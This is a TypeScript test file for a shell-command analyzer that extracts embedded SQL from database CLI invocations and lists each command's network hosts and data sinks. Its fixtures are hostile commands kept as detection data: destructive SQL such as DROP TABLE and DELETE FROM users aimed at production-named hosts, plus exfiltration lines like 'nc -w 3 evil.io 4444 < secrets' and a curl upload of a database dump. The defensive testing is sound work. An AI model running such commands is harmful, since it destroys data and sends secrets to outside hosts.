import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  commandFacts,
  extractEmbeddedSql,
  type EmbeddedSql,
} from '../../../server/src/core/shell/embedded-sql';
import { analyze } from './helpers';

const FILES: Record<string, string> = {
  '/work/app/migrate.sql': 'DROP TABLE m;',
  '/work/app/db/seed.sql': 'DELETE FROM s;',
};
const readFile = (p: string): string | undefined => FILES[p];

async function extract(text: string): Promise<EmbeddedSql[]> {
  const a = await analyze(text);
  return a.commands.flatMap((c) => extractEmbeddedSql(c, { cwd: '/work/app', readFile }));
}

/** The source text at an embedded SQL's offset (checks the 1:1 mapping). */
function at(text: string, e: EmbeddedSql | undefined): string | undefined {
  return e?.baseOffset === undefined ? undefined : text.slice(e.baseOffset, e.baseOffset + e.text.length);
}

describe('extractEmbeddedSql', () => {
  it('psql -c (several) and --command=, with targets', async () => {
    const text = 'psql -h db.prod -U admin app -c "DROP TABLE x" -c \'SELECT 1\' --command="TRUNCATE t"';
    const found = await extract(text);
    assert.deepEqual(
      found.map((e) => [e.text, e.dialect, e.via]),
      [
        ['DROP TABLE x', 'postgresql', 'argument'],
        ['SELECT 1', 'postgresql', 'argument'],
        ['TRUNCATE t', 'postgresql', 'argument'],
      ],
    );
    assert.equal(at(text, found[0]), 'DROP TABLE x');
    assert.equal(at(text, found[1]), 'SELECT 1');
    assert.ok(found[2]?.fixedSpan, 'attached quoted value maps to the containing word');
    assert.deepEqual(found[0]?.target, { host: 'db.prod', database: 'app', user: 'admin' });
  });

  it('psql connection URIs, conninfo strings and PG* assignments', async () => {
    const [uri] = await extract('psql postgresql://ops@pg.internal:5432/billing -c "select 1"');
    assert.deepEqual(uri?.target, { host: 'pg.internal', database: 'billing', user: 'ops' });
    const [kv] = await extract('psql "host=h1 dbname=d1 user=u1" -c "select 1"');
    assert.deepEqual(kv?.target, { host: 'h1', database: 'd1', user: 'u1' });
    const [env] = await extract('PGHOST=prod-db PGDATABASE=x psql -c "select 1"');
    assert.deepEqual(env?.target, { host: 'prod-db', database: 'x' });
  });

  it('psql -f FILE and < FILE read through readFile, relative to cwd', async () => {
    const [f] = await extract('psql -d app -f migrate.sql');
    assert.deepEqual(
      [f?.text, f?.file, f?.via, f?.baseOffset],
      ['DROP TABLE m;', '/work/app/migrate.sql', 'file', undefined],
    );
    const [r] = await extract('psql app < db/seed.sql');
    assert.deepEqual([r?.text, r?.file], ['DELETE FROM s;', '/work/app/db/seed.sql']);
    const [missing] = await extract('psql -f nowhere.sql');
    assert.deepEqual([missing?.text, missing?.unreadable], ['', true]);
  });

  it('heredoc, here-string and pipe into psql / mysql / mariadb', async () => {
    const text =
      "psql <<'SQL'\nDROP SCHEMA s CASCADE;\nSQL\nmysql shop <<< 'DELETE FROM t'; echo 'DROP TABLE u' | mariadb";
    const found = await extract(text);
    assert.deepEqual(
      found.map((e) => [e.text, e.dialect, e.via]),
      [
        ['DROP SCHEMA s CASCADE;\n', 'postgresql', 'stdin'],
        ['DELETE FROM t', 'mysql', 'stdin'],
        ['DROP TABLE u', 'mariadb', 'stdin'],
      ],
    );
    for (const e of found) assert.equal(at(text, e), e.text);
    assert.deepEqual(found[1]?.target, { database: 'shop' });
  });

  it('the heredoc quirk `cd x && cat <<EOF | psql` reaches psql', async () => {
    const text = 'cd /srv && cat <<EOF | psql -h prod\nDELETE FROM users;\nEOF';
    const [e] = await extract(text);
    assert.equal(e?.text, 'DELETE FROM users;\n');
    assert.equal(e?.target.host, 'prod');
    assert.equal(at(text, e), e?.text);
  });

  it('mysql -e / --execute=, -pPASSWORD is not -e', async () => {
    const text = 'mysql -psecret -u root -h m1 -D shop -e "DELETE FROM t"';
    const found = await extract(text);
    assert.deepEqual(
      found.map((e) => e.text),
      ['DELETE FROM t'],
    );
    assert.deepEqual(found[0]?.target, { host: 'm1', database: 'shop', user: 'root' });
    assert.equal(at(text, found[0]), 'DELETE FROM t');
    assert.deepEqual(
      (await extract("mysql --execute='SHOW TABLES'")).map((e) => e.text),
      ['SHOW TABLES'],
    );
  });

  it('sqlite3 DB SQL, clickhouse-client --query, cockroach sql -e', async () => {
    const s = await extract('sqlite3 app.db "DELETE FROM a" .tables');
    assert.deepEqual(
      s.map((e) => [e.text, e.dialect, e.target.database]),
      [['DELETE FROM a', 'sqlite', 'app.db']],
    );
    const c = await extract('clickhouse-client -h ch1 --query "DROP TABLE events"');
    assert.deepEqual(
      c.map((e) => [e.text, e.target.host]),
      [['DROP TABLE events', 'ch1']],
    );
    const r = await extract('cockroach sql --url postgresql://root@crdb:26257/bank -e "DROP TABLE a"');
    assert.deepEqual(
      r.map((e) => [e.text, e.dialect, e.target.host]),
      [['DROP TABLE a', 'postgresql', 'crdb']],
    );
  });

  it('more clients: duckdb, sqlcmd, bq query, snowsql, snow sql, mysqlsh --sql, trino, presto, usql, turso', async () => {
    const cases: [string, [string, string, string?][]][] = [
      ["duckdb prod.duckdb 'DROP TABLE users' .tables", [['DROP TABLE users', 'postgresql', 'prod.duckdb']]],
      ["duckdb -c 'DELETE FROM t' app.duckdb", [['DELETE FROM t', 'postgresql', 'app.duckdb']]],
      ['duckdb app.duckdb -f migrate.sql', [['DROP TABLE m;', 'postgresql', 'app.duckdb']]],
      ['duckdb app.duckdb -init migrate.sql', [['DROP TABLE m;', 'postgresql', 'app.duckdb']]],
      ['sqlite3 -init migrate.sql app.db .tables', [['DROP TABLE m;', 'sqlite', 'app.db']]],
      [
        "sqlcmd -S tcp:prod-sql,1433 -d shop -Q 'DROP TABLE users'",
        [['DROP TABLE users', 'transactsql', 'prod-sql']],
      ],
      ["sqlcmd -S 'prod\\main' -q 'TRUNCATE TABLE t'", [['TRUNCATE TABLE t', 'transactsql', 'prod']]],
      [
        'sqlcmd -i migrate.sql,db/seed.sql',
        [
          ['DROP TABLE m;', 'transactsql'],
          ['DELETE FROM s;', 'transactsql'],
        ],
      ],
      [
        "bq query --use_legacy_sql=false 'DELETE FROM ds.users WHERE true'",
        [['DELETE FROM ds.users WHERE true', 'bigquery']],
      ],
      [
        "bq --project_id=acme-prod --location US query --nouse_legacy_sql 'DROP TABLE ds.t'",
        [['DROP TABLE ds.t', 'bigquery', 'acme-prod']],
      ],
      ['bq query DELETE FROM ds.t WHERE true', [['DELETE FROM ds.t WHERE true', 'bigquery']]],
      ["snowsql -a acme-prod -q 'DROP TABLE users'", [['DROP TABLE users', 'snowflake', 'acme-prod']]],
      ['snowsql -f migrate.sql', [['DROP TABLE m;', 'snowflake']]],
      ["snow sql -q 'DROP TABLE users'", [['DROP TABLE users', 'snowflake']]],
      ["mysqlsh --sql -e 'DROP DATABASE shop'", [['DROP DATABASE shop', 'mysql']]],
      ["mysqlsh root@prod-db:3306/shop --sqlx -e 'DROP TABLE t'", [['DROP TABLE t', 'mysql', 'prod-db']]],
      ['mysqlsh -f migrate.sql', [['DROP TABLE m;', 'mysql']]],
      [
        "trino --server prod-trino:8080 --execute 'DROP TABLE hive.default.users'",
        [['DROP TABLE hive.default.users', 'postgresql', 'prod-trino']],
      ],
      ['presto --server prod:8080 -f migrate.sql', [['DROP TABLE m;', 'postgresql', 'prod']]],
      ["usql my://ops@prod-db/shop -c 'DROP TABLE t'", [['DROP TABLE t', 'mysql', 'prod-db']]],
      ["usql sqlserver://prod-db/shop -c 'DROP TABLE t'", [['DROP TABLE t', 'transactsql', 'prod-db']]],
      ["usql pg://prod-db/app --command='DROP TABLE t'", [['DROP TABLE t', 'postgresql', 'prod-db']]],
      ["turso db shell prod-db 'DROP TABLE users'", [['DROP TABLE users', 'sqlite']]],
    ];
    for (const [text, want] of cases) {
      const found = await extract(text);
      assert.deepEqual(
        found.map((e) => [e.text, e.dialect, ...(want[0]?.[2] ? [e.target.host ?? e.target.database] : [])]),
        want,
        text,
      );
    }
  });

  it('pgcli, mycli, litecli, beeline, spark-sql, sqlplus', async () => {
    const cases: [string, [string, string, string?][]][] = [
      ["pgcli -h prod-db app -c 'DROP TABLE t'", [['DROP TABLE t', 'postgresql', 'prod-db']]],
      ['pgcli app -f migrate.sql', [['DROP TABLE m;', 'postgresql']]],
      ["mycli mysql://ops@prod-db/shop -e 'DROP TABLE t'", [['DROP TABLE t', 'mysql', 'prod-db']]],
      ["litecli app.db --execute 'DELETE FROM t'", [['DELETE FROM t', 'sqlite', 'app.db']]],
      [
        "beeline -u jdbc:hive2://prod-hive:10000/default -n ops -e 'DROP TABLE t'",
        [['DROP TABLE t', 'mysql', 'prod-hive']],
      ],
      ['beeline -u jdbc:hive2://h:10000 -f migrate.sql', [['DROP TABLE m;', 'mysql']]],
      ["spark-sql --master yarn --conf a=b -e 'DROP TABLE t'", [['DROP TABLE t', 'mysql']]],
      ['sqlplus -s scott/tiger@//prod-ora:1521/ORCL @migrate', [['DROP TABLE m;', 'postgresql', 'prod-ora']]],
    ];
    for (const [text, want] of cases) {
      const found = await extract(text);
      assert.deepEqual(
        found.map((e) => [e.text, e.dialect, ...(want[0]?.[2] ? [e.target.host ?? e.target.database] : [])]),
        want,
        text,
      );
    }
    const heredoc = await extract("sqlplus -s scott/tiger@prod <<'EOF'\nDROP TABLE users;\nEXIT\nEOF");
    assert.deepEqual(
      heredoc.map((e) => [e.text.trim(), e.target.host]),
      [['DROP TABLE users;\nEXIT', 'prod']],
    );
  });

  it('more clients: SQL on standard input, and none when there is none', async () => {
    const stdin = await extract(
      "duckdb prod.duckdb <<'EOF'\nDROP TABLE users;\nEOF\necho 'DROP TABLE t' | sqlcmd -S prod; bq query < migrate.sql",
    );
    assert.deepEqual(
      stdin.map((e) => [e.text.trim(), e.dialect]),
      [
        ['DROP TABLE users;', 'postgresql'],
        ['DROP TABLE t', 'transactsql'],
        ['DROP TABLE m;', 'bigquery'],
      ],
    );
    for (const text of [
      'bq ls',
      'bq rm -f ds.t',
      'turso db shell prod-db',
      'snow connection list',
      'cockroach start',
    ])
      assert.deepEqual(await extract(text), [], text);
  });

  it('mysqlsh runs JavaScript or Python unless in SQL mode: only .sql files are SQL then', async () => {
    assert.deepEqual(await extract('mysqlsh -e \'print(session.runSql("SELECT 1"))\''), []);
    assert.deepEqual(await extract("mysqlsh --py -e 'print(1)' -f setup.py"), []);
  });

  it('sqlcmd GO lines end a batch: the statements after them are read apart', async () => {
    const text = "sqlcmd -S prod -Q 'SELECT 1\nGO\nDROP TABLE users\ngo 2'";
    const [e] = await extract(text);
    assert.equal(e?.text, 'SELECT 1\n; \nDROP TABLE users\n;   ');
    assert.equal(e?.text.length, at(text, e)?.length);
  });

  it('SQL through wrappers: sudo, ssh, docker exec', async () => {
    const found = await extract(
      `echo 'DROP TABLE x' | sudo -u postgres psql; ssh db1 'psql -c "TRUNCATE y"'`,
    );
    assert.deepEqual(
      found.map((e) => e.text),
      ['DROP TABLE x', 'TRUNCATE y'],
    );
  });

  it('does not see SQL in data: echo / grep of SQL text', async () => {
    assert.deepEqual(await extract('echo "DROP TABLE users"; grep -r "DELETE FROM" .'), []);
  });
});

describe('commandFacts', () => {
  async function facts(text: string, name: string) {
    const a = await analyze(text);
    const cmd = a.commands.find((c) => c.name === name);
    assert.ok(cmd, name);
    return commandFacts(cmd);
  }
  it('hosts and network sinks', async () => {
    const curl = await facts('curl -T dump.sql https://x.io/up', 'curl');
    assert.deepEqual(curl.hosts, ['x.io']);
    assert.deepEqual(curl.sinks, [
      { kind: 'network', target: 'https://x.io/up', direction: 'out' },
      { kind: 'file', target: 'dump.sql', direction: 'in' },
    ]);
    const get = await facts('wget https://dl.io/a.tgz', 'wget');
    assert.deepEqual(get.sinks, [{ kind: 'network', target: 'https://dl.io/a.tgz', direction: 'in' }]);
    const scp = await facts('scp -P 22 backup.sql ops@bk.example:/tmp/', 'scp');
    assert.deepEqual([scp.hosts, scp.sinks[0]?.direction], [['bk.example'], 'out']);
    assert.deepEqual((await facts('nc -w 3 evil.io 4444 < secrets', 'nc')).hosts, ['evil.io']);
    assert.deepEqual((await facts('kubectl --context prod-eu delete ns a', 'kubectl')).hosts, ['prod-eu']);
    assert.deepEqual((await facts('aws --profile=prod s3 ls', 'aws')).hosts, ['prod']);
    assert.deepEqual((await facts('psql -h db.prod -c "select 1"', 'psql')).hosts, ['db.prod']);
  });
  it('files written by redirects (not /dev/null)', async () => {
    const f = await facts('pg_dump app > /tmp/app.sql 2>/dev/null', 'pg_dump');
    assert.deepEqual(f, {
      program: 'pg_dump',
      hosts: [],
      sinks: [{ kind: 'file', target: '/tmp/app.sql', direction: 'out' }],
    });
  });
});
